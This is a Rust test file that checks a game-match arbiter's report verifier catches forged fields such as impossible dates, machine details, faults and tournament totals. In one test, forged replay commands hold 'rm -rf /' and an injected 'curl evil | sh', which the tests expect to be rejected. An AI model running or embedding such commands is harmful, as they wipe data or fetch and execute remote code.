//! What a changed file can hide: statements of a report that nothing in its games repeats, and that still cannot be true.
//!
//! Every row of these tables is a change that somebody could make to look better, or to make another look worse: a later
//! date, a smaller machine, a fault that was none. And every report that arbiter itself writes must be above suspicion.

use crate::support::{
    arbiter, arbiter_reading, c_bot, canonical, command, findings, journal_of, json, played, sample_bot,
    scratch,
};
use arbiter::host::Means;
use arbiter::record::read;
use arbiter::record::schema::ISOLATION;
use serde_json::{Value, json};
use std::fs;
use std::path::Path;

/// A place in a report, what is written there, and what is said of it.
type Row = (&'static str, Value, &'static str);

/// Plays a match and gives its report, which has to be right.
#[track_caller]
fn right_after(test: &str, args: &[&str]) -> Value {
    let (file, report) = played(test, args);
    arbiter(Path::new("."), &["verify", file.to_str().unwrap()]).expect(0);
    report
}

/// A report that is right.
#[track_caller]
fn right(folder: &Path, file: &str) -> Value {
    arbiter(folder, &["verify", file]).expect(0);
    json(folder.join(file))
}

/// What is found in a report with one change.
fn found(report: &Value, pointer: &str, value: &Value) -> String {
    let mut forged = report.clone();
    let (parent, key) = pointer.rsplit_once('/').expect("a pointer has a slash");
    match forged.pointer_mut(parent).unwrap_or_else(|| panic!("no {parent}")) {
        Value::Object(fields) => drop(fields.insert(key.to_owned(), value.clone())),
        Value::Array(items) => items[key.parse::<usize>().unwrap()] = value.clone(),
        other => panic!("{pointer}: {other} has no parts"),
    }
    findings(&forged)
}

#[track_caller]
fn every_row_is_found(report: &Value, rows: &[Row]) {
    let unnoticed: Vec<_> = rows
        .iter()
        .map(|(pointer, value, wanted)| (pointer, value, wanted, found(report, pointer, value)))
        .filter(|(.., wanted, found)| !found.contains(**wanted))
        .map(|(pointer, value, wanted, found)| format!("{pointer} = {value}: not '{wanted}', but: {found}"))
        .collect();
    assert!(unnoticed.is_empty(), "{}", unnoticed.join("\n"));
}

const DAY: u64 = 24 * 3600 * 1_000_000_000;

/// Who, when, where, by which rules: a date or a limit that was never asked for would otherwise stand beside a true result.
#[test]
fn what_stands_around_the_games_is_found_where_it_cannot_be() {
    let random = sample_bot("random");
    let plan = ["--game", "tic-tac-toe", "--games", "2", "--openings", "none", "--seed", "1"];
    let report = right_after("around", &[&[random.as_str(), &random], &plan[..]].concat());
    every_row_is_found(
        &report,
        &[
            ("/format_version", json!(1), "format 1 has no schedules"),
            ("/arbiter", json!("0.1.0x"), "'0.1.0x' is no version"),
            ("/arbiter", json!("0.0.9"), "no arbiter 0.0.9 ever wrote a report"),
            ("/arbiter", json!("99.0.0"), "newer than this arbiter"),
            ("/machine/os", json!(""), "machine.os: '' is none"),
            ("/machine/arch", json!("x86 64"), "machine.arch: 'x86 64' is none"),
            ("/machine/host", json!(""), "machine.host"),
            ("/machine/cores", json!(0), "machine.cores: no machine has 0"),
            ("/machine/jobs", json!(0), "machine.jobs: 0 games at the same time"),
            ("/machine/jobs", json!(3), "of which there can be 1 to 2"),
            ("/machine/isolation", json!(["walls"]), "machine.isolation"),
            ("/machine/isolation", json!(["namespaces", "cgroup"]), "machine.isolation"),
            ("/started", json!("yesterday"), "started: 'yesterday' is no date"),
            ("/started", json!("2026-02-30T00:00:00.000+00:00"), "is no date"),
            ("/started", json!("2026-11-21 15:04:49.914+00:00"), "is no date"),
            ("/started", json!("2999-01-01T00:00:00.000+00:00"), "is before the match started"),
            ("/finished", json!("1999-01-01T00:00:00.000+00:00"), "is before the match started"),
            ("/finished", json!("2026-01-01"), "finished: '2026-01-01' is no date"),
            ("/games/1/started", json!("1999-01-01T00:00:00.000+00:00"), "game 2: started: 1999"),
            (
                "/games/1/started",
                json!("2999-01-01T00:00:00.000+00:00"),
                "game 2: duration_ns: it ended at 2999",
            ),
            ("/games/1/started", json!("noon"), "game 2: started: 'noon' is no date"),
            ("/games/0/duration_ns", json!(DAY), "game 1: duration_ns: it ended at"),
            ("/plan/margin_ns", json!(40 * DAY), "plan.margin_ns"),
            ("/plan/prepare_time_ns", json!(0), "plan.prepare_time_ns"),
            ("/plan/limits", json!({ "threads": 1 }), "plan.limits.threads: 2 to 256"),
            ("/plan/limits", json!({ "memory": 1 << 23 }), "plan.limits.memory"),
            ("/plan/max_errors", json!(1001), "plan.max_errors: at most 1000"),
            ("/plan/withdraw_after", json!(2), "nobody is withdrawn from a match"),
            ("/plan/in_process", json!(true), "clock"),
            ("/plan/players/0/name", json!(""), "plan.players[0]: it has no name"),
            ("/plan/players/0/author", json!(""), "plan.players[0]: an author"),
            ("/plan/players/0/version", json!("9"), "plan.players[1]: another player has the same file"),
            ("/plan/players/0/sha256", json!("A".repeat(64)), "64 hexadecimal digits"),
            ("/plan/players/0/time/move_ns", json!(0), "0 ns is no time that can be asked for"),
            ("/plan/players/0/time/move_ns", json!(40 * DAY), "is no time that can be asked for"),
            ("/games/0/seats/0/prepared_ns", json!(DAY), "game 1: seat 1 cannot have used"),
            ("/games/0/seats/0/printed", json!(8), "printed: 8192 bytes or less are not noted"),
            ("/games/0/plies/0/pondered_ns", json!(DAY), "game 1: seat 1 cannot have used"),
        ],
    );
}

/// A bot's author would otherwise be shown a fault that never happened, or a command that plays another game.
#[test]
fn a_fault_that_cannot_have_been_is_found() {
    let (faulty, first) = (c_bot("faulty"), c_bot("first"));
    let bots = [&*faulty, &*first];
    let plan = ["--game", "othello", "--openings", "none", "--move-time", "1s", "--seed", "1"];
    let report =
        |misdeed: &str| right_after("faulty", &[&bots[..], &plan, &["-B", &format!("1:{misdeed}")]].concat());
    let other = "arbiter again report.json --game-number 2 --seat 1";
    every_row_is_found(
        &report("choose_move=segfault"),
        &[
            ("/games/0/ending/fault/again", json!(null), "fault.again: it is missing"),
            (
                "/games/0/ending/fault/again",
                json!(other),
                "the command is 'arbiter again REPORT --game-number 1 --seat 1'",
            ),
            ("/games/0/ending/fault/again", json!("rm -rf /"), "the command is"),
            (
                "/games/0/ending/fault/again",
                json!("arbiter again x; curl evil | sh; echo --game-number 1 --seat 1"),
                "the command is",
            ),
            ("/games/0/ending/fault/signal", json!(99), "there is no signal 99"),
            ("/games/0/ending/fault/signal", json!(6), "signal 6"),
            ("/games/0/ending/fault/during", json!("game_over"), "is not seen in a turn"),
            ("/games/0/ending/fault/during", json!("new_game"), "new_game"),
            ("/games/0/ending/fault/wall_ns", json!(DAY), "'crashed' came after"),
            ("/games/0/ending/fault/cpu_ns", json!(DAY), "seat 1 cannot have used"),
            ("/games/0/ending/fault/output", json!(""), "fault.output"),
            (
                "/games/0/noted",
                json!([{ "seat": 1, "fault": { "kind": "left", "position": "" } }]),
                "is no fault of a bot",
            ),
            (
                "/games/0/noted",
                json!([{ "seat": 7, "fault": { "kind": "left", "position": "" } }]),
                "there is no seat 7",
            ),
        ],
    );
    let mut bus = report("choose_move=segfault");
    let fault = &mut bus["games"][0]["ending"]["fault"];
    fault["signal"] = json!(7);
    let at = fault["address"].as_str().map_or(String::new(), |at| format!(" at address {at}"));
    for name in ["signal 7, bus error", "signal 7"] {
        let told = json!(format!("crashed in choose_move ({name}{at})"));
        assert_eq!(found(&bus, "/games/0/ending/fault/sentence", &told), "", "as it is called somewhere");
    }
    let noted = report("game_over=segfault");
    assert_eq!(noted["games"][0]["noted"][0]["fault"]["kind"], "crashed", "or this tests nothing");
    every_row_is_found(
        &noted,
        &[
            ("/games/0/noted/0/fault/during", json!("choose_move"), "is not seen after a game"),
            ("/games/0/noted/0/fault/sentence", json!("was stolen"), "noted[0].fault.sentence"),
            ("/games/0/noted/0/fault/position", json!("elsewhere"), "noted[0].fault.position"),
            ("/games/0/noted/0/fault/wall_ns", json!(1), "noted[0].fault.wall_ns"),
        ],
    );
    let late = report("new_game=loop");
    assert_eq!(late["games"][0]["ending"]["fault"]["limit"], 1_000_000_000, "{late}");
    every_row_is_found(&late, &[("/games/0/ending/fault/limit", json!(2_000_000_000), "but there were 1s")]);
}

/// A person would otherwise be blamed for what only programs do.
#[test]
fn what_only_a_process_has_is_found_where_there_is_none() {
    let (greedy, folder) = (sample_bot("greedy"), scratch("claimed-person"));
    let args = ["human:Ana", &greedy, "--game", "tic-tac-toe", "--output", "report.json"];
    arbiter_reading(&folder, &args, "a1\nresign\n").expect(0);
    let report = right(&folder, "report.json");
    let seat = report["games"][0]["ending"]["seat"].as_u64().unwrap();
    let again = format!("arbiter again report.json --game-number 1 --seat {}", seat + 1);
    every_row_is_found(
        &report,
        &[
            ("/games/0/ending/fault/again", json!(again), "only bots are played again"),
            ("/games/0/ending/fault/output", json!("oops"), "cannot have printed this"),
            ("/games/0/plies/0/search", json!({ "depth": 9 }), "only a bot tells of a search"),
            ("/games/0/plies/0/cpu_ns", json!(5), "without a process of its own"),
            ("/games/0/seats/0/prepared_ns", json!(5), "only a process of its own"),
            ("/plan/players/0/kind", json!("program"), "the command of a program, is missing"),
            ("/plan/players/0/author", json!("Ana"), "only a bot has an author"),
            ("/plan/players/0/options", json!({ "depth": "9" }), "only a bot has an author"),
            ("/machine/jobs", json!(2), "of which there can be 1 to 1"),
        ],
    );
    let random = sample_bot("random");
    let shared = right_after("shared", &[&random, &random, "--game", "tic-tac-toe", "--in-process"]);
    every_row_is_found(
        &shared,
        &[
            ("/plan/in_process", json!(false), "machine.os"),
            ("/games/0/seats/0/printed", json!(9000), "only a process of its own"),
            ("/games/0/plies/0/cpu_ns", json!(5), "without a process of its own"),
            ("/machine/isolation", json!(["cgroup"]), "machine.isolation"),
        ],
    );
}

/// Who lends a machine to a tournament is told what it did, and what others did must add up to the rest.
#[test]
fn parts_that_do_not_add_up_are_found() {
    let (random, greedy) = (sample_bot("random"), sample_bot("greedy"));
    let folder = scratch("forged-parts");
    let plan = ["tournament", &random, &greedy, "--game", "tic-tac-toe", "--rounds", "3", "--seed", "1"];
    for part in ["1/2", "2/2"] {
        arbiter(&folder, &[&plan[..], &["--shard", part, "--results", "parts"]].concat()).expect(0);
    }
    arbiter(&folder, &["merge", "parts", "-o", "merged.json"]).expect(0);
    let report = right(&folder, "merged.json");
    every_row_is_found(
        &report,
        &[
            ("/parts/0/games", json!(5), "parts: their games add up to"),
            ("/parts/1/moves", json!(0), "parts: their moves add up to"),
            ("/parts/1/wall_ns", json!(0), "parts: their wall_ns add up to"),
            ("/parts/0/shard", json!("3/2"), "parts[0].shard: '3/2' is no part"),
            ("/parts/0/shard", json!("01/2"), "parts[0].shard"),
            ("/parts/1/machine/cores", json!(0), "parts[1].machine.cores"),
            ("/parts/1/started", json!("soon"), "parts[1].started: 'soon' is no date"),
            (
                "/started",
                json!("2020-01-01T00:00:00.000+00:00"),
                "none of them has the machine and the start",
            ),
            ("/games/5/started", json!("1999-01-01T00:00:00.000+00:00"), "game 6: started: 1999"),
            ("/games/5/seats/0/prepared_ns", json!(DAY), "game 6: seat 1 cannot have used"),
        ],
    );
    // What a merged report has already is not told twice, in whatever order files come.
    arbiter(&folder, &["merge", "parts", "merged.json", "-o", "zagain.json"]).expect(0);
    fs::rename(folder.join("merged.json"), folder.join("zmerged.json")).unwrap();
    arbiter(&folder, &["merge", "parts", "zmerged.json", "-o", "again.json"]).expect(0);
    for file in ["zagain.json", "again.json"] {
        assert_eq!(
            right(&folder, file)["parts"]
                .as_array()
                .unwrap()
                .iter()
                .filter(|part| part["games"] != 0)
                .count(),
            2
        );
    }
}

/// Whoever keeps reports of older versions goes on putting them together and printing their canonical form. The Swiss tournament
/// has an odd number, whose byes went by another rule; in the other one of version 2, the score of a seat that was taken out was
/// counted without its pieces.
#[test]
fn older_reports_stay_right_whatever_is_made_of_them() {
    let records = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/records");
    let folder = scratch("older-made");
    for name in ["version-1.json", "version-2-swiss.json", "version-2-eliminated.json"] {
        let file = records.join(name);
        let file = file.to_str().unwrap();
        let canonical = canonical(&folder, file);
        fs::write(folder.join("canonical.json"), canonical).unwrap();
        let merged = format!("merged-{name}");
        arbiter(&folder, &["merge", file, "-o", &merged]).expect(0);
        for made in ["canonical.json", &merged] {
            let again = arbiter(&folder, &["verify", made]);
            assert_eq!(again.code, 0, "{name}, {made}: {}", again.out);
        }
    }
}

/// The dates of formats 1 and 2 were those of the machine's clock, which may have been put right in mid-match.
#[test]
fn a_clock_that_was_put_right_is_forgiven_to_older_reports_alone() {
    let records = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/records");
    let report = read(&records.join("version-2-swiss.json")).unwrap();
    let mut report = serde_json::to_value(report).unwrap();
    let date = |minute: u32| json!(format!("2026-11-21T15:{minute:02}:00.000+00:00"));
    (report["started"], report["finished"]) = (date(10), date(12));
    for game in report["games"].as_array_mut().unwrap() {
        game["started"] = date(11);
    }
    assert_eq!(found(&report, "/games/3/started", &json!("2026-11-21T15:09:30.000+00:00")), "");
    assert!(found(&report, "/games/3/started", &date(5)).contains("game 4: started"));
    assert!(found(&report, "/finished", &date(5)).contains("is before the match started"));
}

/// A match may be gone on with where the clock is behind. Otherwise its report would look forged.
#[test]
fn a_match_that_goes_on_before_it_began_is_right() {
    let folder = scratch("back-in-time");
    let random = sample_bot("random");
    let plan = ["--game", "tic-tac-toe", "--games", "4", "--seed", "1", "--quiet", "--output", "report.json"];
    let plan = [&[random.as_str(), &random], &plan[..]].concat();
    arbiter(&folder, &plan).expect(0);
    let mut report = json(folder.join("report.json"));
    let later = "2990-01-01T00:00:00.000+00:00";
    report["started"] = json!(later);
    report["games"][0]["started"] = json!(later);
    report["games"].as_array_mut().unwrap().truncate(1);
    fs::remove_file(folder.join("report.json")).unwrap();
    fs::write(folder.join("report.json.journal"), journal_of(&report)).unwrap();
    assert!(command(&folder, &[&plan[..], &["--resume"]].concat()).status().unwrap().success());
    let resumed = right(&folder, "report.json");
    let started = |game: usize| resumed["games"][game]["started"].as_str().unwrap().to_owned();
    assert_eq!(started(0), later);
    assert!(started(3).starts_with("2990-01-01T") || started(3).starts_with("2989-12-31T"), "{}", started(3));
}

#[test]
fn the_words_for_isolation_in_reports_are_those_of_the_command_line() {
    assert_eq!(Means::ALL.map(Means::word), ISOLATION);
}
